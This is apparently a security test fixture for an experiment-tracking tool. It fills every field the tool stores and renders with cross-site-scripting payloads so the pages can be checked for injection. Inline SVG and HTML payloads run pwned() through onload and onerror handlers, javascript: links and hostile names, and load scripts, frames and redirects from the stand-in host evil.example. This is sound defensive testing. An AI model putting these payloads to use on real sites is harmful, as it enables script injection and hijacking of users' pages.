"""A record in which every text that people or programs may write is an attack on the pages that show it.

`PAYLOADS` (of `payloads.json`) call `pwned`, ask a host of somebody else's, or turn the page into something else. `build` packs
all of them into each kind of field, as many to a field as it takes.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import gnomon
from gnomon.session import close_all

EVIL = "evil.example"
HOOK = "pwned()"

PAYLOADS: list[str] = json.loads((Path(__file__).parent / "payloads.json").read_text(encoding="utf-8"))


def chunks(size: int) -> list[str]:
    """Return all payloads as few texts of about a size."""
    texts, text = [], ""
    for payload in PAYLOADS:
        if len(text) + len(payload) > size:
            texts.append(text)
            text = ""
        text += f" {payload}"
    return [*texts, text]


def safe(text: str) -> str:
    """Return a payload without what no name can hold: control characters and unpaired ones."""
    return "".join(char for char in text if char.isprintable())


def file_names() -> list[str]:
    """Return payloads as names of files."""
    return [f"{n:03} {_name(one)}.txt" for n, one in enumerate(PAYLOADS)]


def _name(text: str) -> str:
    return safe(text).replace("/", "∕").replace("\\", "⧵")[:60]


SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9' onload='{HOOK}'>"
    f"<script>{HOOK};parent.{HOOK}</script><image href='http://{EVIL}/svg.png'/><use href='http://{EVIL}/x.svg#a'/>"
    f"<a xlink:href='javascript:{HOOK}'><rect width='9' height='9'/></a><foreignObject><iframe src='http://{EVIL}/f'/></foreignObject></svg>"
)
HTML = (
    f"<!doctype html><title>x</title><script>{HOOK};top.{HOOK};opener&&opener.{HOOK}</script><img src=x onerror={HOOK}>"
    f"<script src='http://{EVIL}/x.js'></script><link rel=stylesheet href='http://{EVIL}/x.css'>"
    f"<iframe src='http://{EVIL}/f'></iframe>"
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/r'>"
    f"<form action='http://{EVIL}/'><input autofocus onfocus={HOOK}></form>"
    "<p id=shown>shown</p>"
)

LAUNCHED = """
import json, sys
sys.path[:0] = json.load(open("paths.json"))
for line in json.load(open("payloads.json")):
    print(line)
    print(line, file=sys.stderr)
raise RuntimeError(" ".join(json.load(open("payloads.json")))[:20_000])
"""


def build(folder: Path) -> dict[str, str]:
    """Make the record `folder/.gnomon`; return what the addresses of its pages hold."""
    record = folder / ".gnomon"
    _runs(folder, record)
    _launched(folder)
    _notebook(folder)
    close_all()
    with gnomon.open(record) as opened:
        found = _data(folder, opened) | _sweep(opened)
        ids = [row["id"] for row in opened.runs(columns=["id"], limit=1_000).to_pylist()]
        for number, text in enumerate(chunks(60)[:40]):
            opened.save_view(
                f"{number} {safe(text)}".strip()[:90],
                f"name ~ {json.dumps(safe(text))}",
                columns=["name", "params.x"],
            )
        for text in chunks(3_000):
            opened.add_note(ids[0], text)
        opened.rename(ids[3], safe(chunks(400)[0]))
        _writings(opened, ids[0], ids[1])
        found["check"] = _checks(opened, ids[1])
    close_all()
    return {
        **found,
        "notebook": ids[0],
        "run": ids[1],
        "kept": ids[2],
        "runs": ",".join(ids),
        "word": "1",
        "kind": "decision",
    }


def _checks(record: gnomon.Record, run: str) -> str:
    """Write a check down, twice, in which every text is an attack; return its id."""
    from gnomon.checks.result import Chart, CheckResult, Figures, Finding, Series

    texts = tuple(PAYLOADS)
    marks = (texts, tuple(float(n) for n, _ in enumerate(texts)))
    lines = ((0.0, 1.0, 2.0), (0.0, 1.0, 2.0))
    outcomes = ("fail", "pass", "cannot tell")
    findings = tuple(
        Finding(one, one, outcomes[n % 3], 0.1, 0.0, 0.2, one, one) for n, one in enumerate(texts)
    )
    rows = tuple((*texts[n : n + 20], 0.1, 0.0, 0.2) for n in range(60))
    figures = Figures("groups", texts[0], (*texts[:20], "x", "x_low", "x_high"), rows, texts[1])
    charts = tuple(
        Chart(
            str(n),
            one,
            form,
            (Series(one, *(lines if form == "lines" else marks)),),
            texts[n + 1],
            texts[n + 2],
            0.5,
        )
        for n, (form, one) in enumerate(zip(["lines", "bars", "intervals"] * 6, texts, strict=False))
    )
    evidence = tuple({"role": one, "path": one, "version": one, "digest": one} for one in texts[:20])
    result = CheckResult(
        "fairness",
        safe(chunks(150)[0]),
        9,
        findings,
        (figures,),
        charts,
        texts,
        {safe(one)[:80]: one for one in texts},
        evidence,
    )
    record.checks.write(result, about=f"run:{run}")
    return record.checks.write(result, about=f"run:{run}").id


def _sweep(record: gnomon.Record) -> dict[str, str]:
    """Write a sweep down in which every text is an attack, and one whose file cannot be read; return it, and a run of it."""
    from gnomon.ids import run_subject
    from gnomon.runs.sweep import entries
    from gnomon.session import session_for

    session, sweep, later = session_for(record.path), "ab" * 10, "cd" * 10
    names = [
        safe(one)[:60].replace(".", "").replace("{", "").replace("}", "").strip() or "x" for one in PAYLOADS
    ]
    file = {
        "name": safe(chunks(150)[0])[:200], "command": ["python", *map(safe, PAYLOADS[:40])], "metric": safe(PAYLOADS[0]),
        "goal": "maximize", "seeds": [1, 2], "sampler": "random", "trials": 200,
        "params": {name: [safe(one), f"{at} {safe(one)}"] for at, (name, one) in enumerate(zip(names, PAYLOADS, strict=True))},
    }  # fmt: skip
    file["command"] = [word.replace("{", "").replace("}", "") for word in file["command"]]
    session.append(
        entries.MADE, entries.sweep_subject(sweep), {"name": file["name"], "file": file}, strict=True
    )
    session.append(
        entries.MADE,
        entries.sweep_subject(later),
        {"name": PAYLOADS[1], "file": {PAYLOADS[0]: PAYLOADS[1]}},
        strict=True,
    )
    ids = record.runs(columns=["id"], limit=1_000).ids
    for number, (text, run) in enumerate(
        zip(PAYLOADS, [*ids, *(f"{n:020x}" for n in range(1_000))], strict=False)
    ):
        status = ("finished", "failed", "pruned", "timed out", "finished")[number // 2 % 5]
        body = {
            "sweep": sweep, "number": number // 2, "seed": number % 2 + 1, "status": status, "began_us": 1_790_000_000_000_000,
            "params": {(own := PAYLOADS[number // 2]): own, "x": {own: [own]}}, "why": text, "value": float(number),
        }  # fmt: skip
        session.append(entries.ENDED, entries.trial_subject(run), body, strict=True)
    made_for = "ef" * 10
    body = {
        "name": safe(PAYLOADS[2]), "trial": {"sweep": sweep, "number": 3}, "params": {},
        "repeats": {"run": ids[1], "for": "replication", "swapped": {one: one for one in PAYLOADS}},
    }  # fmt: skip
    session.append("run.created", run_subject(made_for), body, strict=True)
    return {"sweep": sweep, "made_for": made_for}


def _writings(record: gnomon.Record, run: str, before: str) -> None:
    """Write one of each kind in which every text is an attack, by and for members who are called so.

    The review is of a run with a notebook, against another run, with a comment on a cell.
    """
    from gnomon.team.people import actions as people
    from gnomon.team.reviews.actions import give_verdict
    from gnomon.team.writing import actions
    from gnomon.team.writing.kinds import KINDS

    me = people.become(record, "<svg onload=pwned()>").person
    people.works(record, me, zone="Europe/Berlin")
    people.away(record, me, date(2026, 12, 24), why=safe(chunks(150)[0]))
    other = people.add(record, '"><img src=x onerror=pwned()>')
    for kind in KINDS.values():
        text = (
            "\n\n".join(PAYLOADS)
            + "\n"
            + "\n".join(f"[{one}](run:{run[:8]}) ![{one}]({one})" for one in PAYLOADS)
        )
        fields = {name: [safe(one)[:200] for one in PAYLOADS[:40]] for name in kind.fields}
        fields |= {
            name: safe(chunks(150)[0])
            for name in ("of", "against", "run", "day", "form")
            if name in kind.fields
        }
        fields |= {"name": safe(PAYLOADS[0])} if "name" in kind.fields else {}
        if kind.type == "review":
            fields |= {"subject": f"run:{run}", "against_subject": f"run:{before}"}
        title = safe(chunks(150)[0])
        written = actions.open_writing(
            record, kind.type, title, text, to=[me.id, other.id], due=2e9, fields=fields
        )
        for part in chunks(3_000):
            actions.say(written, part, part=safe(part)[:150])
        actions.move(written, kind.states[0], " ".join(PAYLOADS)[:19_000])
        if kind.type == "review":
            actions.say(written, " ".join(PAYLOADS)[:19_000], part="cell:2")
            give_verdict(actions.refreshed(written), me, "changes", " ".join(PAYLOADS)[:19_000])


def _runs(folder: Path, record: Path) -> None:
    names, tags, tree = chunks(150), [safe(one) for one in PAYLOADS if safe(one).strip()], folder / "tree"
    for name in file_names():
        (tree / name[:3]).mkdir(parents=True, exist_ok=True)
        (tree / name[:3] / name).write_text(name)
    for number, name in enumerate(names):
        run = gnomon.run(
            safe(name), dir=record, group=safe(names[number - 1]), seed=number,
            tags=[one[:60] for one in tags[number::len(names)]],
            params={f"p{at} {safe(one)}": one for at, one in enumerate(PAYLOADS[number::len(names)])} | {"x": number},
        )  # fmt: skip
        for step in range(3):
            run.log(
                {safe(one)[:100].strip(" /") or "x": step for one in PAYLOADS[number :: len(names)]}
                | {"loss": 1 / (1 + step)}
            )
        run.note(name)
        if number == len(names) - 1:  # the newest, whose page is looked at
            _kept(folder, run, tree)
            _values(run)
        run.finish(
            "failed" if number % 2 else "finished",
            error=chunks(2_000)[0] if number % 2 else None,
            traceback=" ".join(PAYLOADS),
        )


def _kept(folder: Path, run: gnomon.Run, tree: Path) -> None:
    for name, text in {
        "a.svg": SVG,
        "b.html": HTML,
        "c.md": " ".join(PAYLOADS),
        "d.ipynb": json.dumps({"cells": PAYLOADS}),
    }.items():
        (folder / name).write_text(text, encoding="utf-8")
        run.keep(folder / name)
    run.keep(tree, name=safe(chunks(120)[0]))
    for name in chunks(200):
        run.keep(folder / "a.svg", name=safe(name))


def _values(run: gnomon.Run) -> None:
    import plotly.graph_objects as go

    for number, text in enumerate(chunks(2_500)):
        run.log({
            "words": gnomon.Text(text, caption=text), "plain": gnomon.Text(text, format="plain"),
            "table": gnomon.Table({f"{number} {safe(one)[:80]}": [one, text] for one in PAYLOADS[:8]}, caption=text),
            "histogram": gnomon.Histogram([1, 2, 3], caption=text),
        })  # fmt: skip
    pixels = [[[number, 0, 0] for number in range(20)] for _ in range(20)]
    import numpy as np

    run.log({
        "picture": gnomon.Image(
            np.array(pixels, dtype=np.uint8), caption=PAYLOADS[0], mask=np.ones((20, 20), dtype=np.uint8),
            classes={1: PAYLOADS[1]}, boxes=[{"x": 1, "y": 1, "width": 5, "height": 5, "label": one} for one in PAYLOADS[:50]],
        ),
        "vector": gnomon.Image(SVG.encode(), caption="svg") if _takes_svg() else gnomon.Text("x"),
        "figure": gnomon.Figure(go.Figure(
            data=[go.Scatter(x=[1, 2], y=[1, 2], name=one, text=[one, one], hovertemplate=one) for one in PAYLOADS[:60]],
            layout={"title": {"text": " ".join(PAYLOADS[:60])}},
        )),
        "sound": gnomon.Audio(np.zeros(80), rate_hz=8_000, caption=PAYLOADS[2]),
        "points": gnomon.Points3D(np.zeros((3, 3)), caption=PAYLOADS[3]),
        "film": gnomon.Video(np.zeros((2, 16, 16, 3), dtype=np.uint8), caption=PAYLOADS[4]),
    })  # fmt: skip


def _takes_svg() -> bool:
    from gnomon.runs.values.files import format_of

    return format_of(SVG.encode()) is not None


def _launched(folder: Path) -> None:
    """Run a program that prints every payload and fails with them, with everything captured."""
    (folder / "payloads.json").write_text(json.dumps(PAYLOADS))
    (folder / "paths.json").write_text(json.dumps([path for path in sys.path if path]))
    script = folder / _name("</script><svg onload=pwned()>.py")
    script.write_text(LAUNCHED + "".join(f"# {safe(one)}\n" for one in PAYLOADS))
    subprocess.run(
        [sys.executable, "-m", "gnomon", "run", sys.executable, script.name, *map(safe, PAYLOADS[:20])],
        cwd=folder, env={**os.environ, "GNOMON_CAPTURE": "on"}, capture_output=True, timeout=120, check=False,
    )  # fmt: skip


CELL = """
import gnomon, json, sys
run = gnomon.run("of a notebook")
for one in json.load(open("payloads.json")):
    kinds = "text/html text/plain text/markdown image/svg+xml text/latex application/javascript application/json".split()
    display({kind: one for kind in kinds}, raw=True)
    print(one)
    print(one, file=sys.stderr)
display({"text/html": HTML}, raw=True)
run.finish()
raise RuntimeError(one)
"""


def _notebook(folder: Path) -> None:
    """Run a notebook whose cells show every payload as every kind of output."""
    from tests.unit.interop.kernels import LOAD, kernel, save

    os.environ.setdefault("XDG_CONFIG_HOME", str(folder / "config"))  # of a test, where one runs
    cell = CELL.replace("HTML}", f"{HTML!r}}}") + "".join(f"# {safe(one)}\n" for one in PAYLOADS)
    path = folder / f"{_name(PAYLOADS[1])}.ipynb"
    save(path, [("a", LOAD), ("b", cell)])
    with kernel(folder, JPY_SESSION_NAME=str(path)) as front:
        front.run(LOAD, "a")
        front.shown(cell, "b")


def _data(folder: Path, record) -> dict[str, str]:
    import csv

    path = folder / f"{_name(PAYLOADS[0])}.csv"
    columns = [safe(one)[:80] for one in PAYLOADS[:60]]
    for round_ in range(2):
        with path.open("w", newline="", encoding="utf-8") as file:
            rows = csv.writer(file)
            rows.writerow([f"{n} {one}" for n, one in enumerate(columns)])
            for row in range(20 + round_):
                rows.writerow([safe(PAYLOADS[(row * 60 + n) % len(PAYLOADS)]) for n in range(60)])
        record.add_data(str(path), name="hostile", message=" ".join(PAYLOADS)[:5_000])
    record.add_data(str(folder / "tree"), name="names", message="files")
    (folder / "pages").mkdir()
    for name in ("a.svg", "b.html", "c.md", "d.ipynb"):
        (folder / "pages" / name).write_bytes((folder / name).read_bytes())
    record.add_data(str(folder / "pages"), name="pages", message="pages")
    return {"name": "hostile", "version": "v2", "a": "hostile@v1", "b": "hostile@v2"}
